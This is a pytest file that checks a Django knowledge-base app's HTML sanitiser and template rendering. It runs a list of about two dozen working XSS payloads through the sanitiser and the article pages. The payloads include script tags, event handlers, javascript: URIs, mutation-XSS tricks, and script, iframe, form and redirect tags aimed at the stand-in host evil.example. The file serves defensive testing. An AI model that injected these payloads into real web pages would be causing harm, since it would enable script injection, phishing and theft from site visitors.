"""Article HTML: the allowlist, on save and on display (a battery of XSS payloads)."""

import re

import pytest
from django.template import Context, Template

from kehu.knowledge import sanitize
from kehu.knowledge.models import Article

# (payload, what must not survive)
XSS = [
    ("<script>alert(1)</script>", r"<script|alert"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", r"(?i)<script|evil"),
    ('<img src=x onerror="alert(1)">', r"onerror|alert"),
    ('<img src="javascript:alert(1)">', r"javascript"),
    ('<a href="javascript:alert(1)">click</a>', r"javascript"),
    ('<a href="JaVaScRiPt:alert(1)">click</a>', r"(?i)javascript"),
    ('<a href="jav&#x09;ascript:alert(1)">click</a>', r"(?i)ascript|&#x09;"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', r"data:|<script"),
    ("<svg onload=alert(1)><circle r=1 /></svg>", r"svg|onload|alert"),
    ('<iframe src="https://evil.example"></iframe>', r"iframe|evil"),
    ('<p style="background:url(javascript:alert(1))">x</p>', r"style|javascript"),
    ("<style>body{display:none}</style>", r"style|display"),
    ('<p onclick="alert(1)" onmouseover="alert(2)">x</p>', r"onclick|onmouseover|alert"),
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', r"onerror|alert|math"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', r"onerror|alert"),
    ('<object data="javascript:alert(1)"></object><embed src="x.swf">', r"object|embed|javascript"),
    ('<form action="https://evil.example"><input name=q><button>go</button></form>', r"<form|<input|<button|evil"),
    ('<div id="login" class="x">clobber</div>', r"id=|class=|<div"),
    ('<a href="https://example.com" target="_blank" rel="opener">x</a>', r'target=|rel="opener"'),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', r"meta|evil"),
    ('<base href="https://evil.example/">', r"base|evil"),
    ('<img src="http://example.com/a.png">', r"http://"),
    ('<img src="//evil.example/a.png">', r"evil"),
    ("<!-- <script>alert(1)</script> -->", r"script|alert"),
]


@pytest.mark.parametrize("payload, forbidden", XSS)
def test_payload_is_removed(payload, forbidden):
    cleaned = sanitize.clean(f"<p>before</p>{payload}<p>after</p>")
    assert re.search(forbidden, cleaned) is None, cleaned
    assert cleaned.startswith("<p>before</p>")  # (an unclosed <math> takes what follows with it)


def test_allowed_markup_is_kept():
    body = ('<h2>Title</h2><h3>Sub</h3><h4>Subsub</h4><p>A <strong>b</strong> <em>c</em> <code>d</code></p>'
            "<ul><li>one</li></ul><ol start=\"3\"><li>three</li></ol><blockquote>q</blockquote>"
            "<pre>x = 1</pre><table><caption>c</caption><thead><tr><th scope=\"col\">h</th></tr></thead>"
            "<tbody><tr><td colspan=\"2\">d</td></tr></tbody></table>"
            '<img src="https://example.com/a.png" alt="A" width="100">'
            '<img src="/static/kehu/a.png" alt="local">')
    assert sanitize.clean(body) == body


def test_links_keep_safe_schemes_and_get_rel():
    assert sanitize.clean('<a href="https://example.com/x">x</a>') == (
        '<a href="https://example.com/x" rel="noopener noreferrer">x</a>')
    assert sanitize.clean('<a href="mailto:help@example.com">m</a>') == (
        '<a href="mailto:help@example.com" rel="noopener noreferrer">m</a>')
    assert sanitize.clean('<a href="/knowledge/public/">p</a>') == (
        '<a href="/knowledge/public/" rel="noopener noreferrer">p</a>')
    assert 'href' not in sanitize.clean('<a href="ftp://example.com/x">x</a>')


def test_h1_and_unknown_tags_keep_their_text_only():
    assert sanitize.clean("<h1>Big</h1><div><span>in</span></div><font>f</font>") == "Bigin" + "f"


def test_numbers_only_in_size_attributes():
    assert sanitize.clean('<img src="/a.png" alt="" width="100%" height="50">') == '<img src="/a.png" alt="" height="50">'


def test_text_of_and_excerpt():
    body = "<h2>Refunds</h2><p>Within&nbsp;7 days &amp; free.</p><script>x</script>"
    assert sanitize.text_of(body) == "Refunds Within 7 days & free."
    assert sanitize.excerpt("<p>" + "字" * 200 + "</p>", 10) == "字" * 9 + "…"


@pytest.mark.parametrize("payload, forbidden", XSS)
def test_payload_is_sanitised_when_saved(write, payload, forbidden):
    article = write(title_en="XSS", body_en=f"<p>safe</p>{payload}")
    stored = Article.objects.get(pk=article.pk).body_en
    assert re.search(forbidden, stored) is None, stored
    assert stored.startswith("<p>safe</p>")


def test_a_body_stored_unsanitised_is_still_rendered_inert(write):
    """A row written around the service (SQL, an old allowlist) is cleaned again on display."""
    article = write(title_en="Raw", body_en="<p>ok</p>")
    Article.objects.filter(pk=article.pk).update(body_en='<p>ok</p><script>alert(1)</script><img src=x onerror=alert(2)>')
    html = Template("{% load knowledge %}{{ body|knowledge_html }}").render(
        Context({"body": Article.objects.get(pk=article.pk).body_en}))
    assert html == '<p>ok</p><img src="x">'


def test_titles_are_escaped_not_interpreted(client, write, agent):
    article = write(title_en='<img src=x onerror=alert(1)>Refunds', body_en="<p>x</p>")
    client.force_login(agent)
    page = client.get(f"/knowledge/{article.pk}/").content.decode()
    assert "<img src=x onerror" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;Refunds" in page


def test_pages_show_the_payloads_inert(client, write, agent):
    body = "".join(p for p, _ in XSS)
    article = write(title_en="All payloads", body_en=f"<p>start</p>{body}")
    Article.objects.filter(pk=article.pk).update(body_en=f"<p>start</p>{body}")  # even unsanitised
    client.force_login(agent)
    for url in (f"/knowledge/{article.pk}/", f"/knowledge/public/{article.pk}/"):
        page = client.get(url).content.decode()
        main = page[page.index('data-testid="article-body"'):]
        main = main[: main.index("</article>")]
        for forbidden in ("<script", "onerror", "onload", "onclick", "javascript:", "<iframe", "<svg",
                          "style=", "<object", "<embed", "<form"):
            assert forbidden not in main.lower(), (url, forbidden)
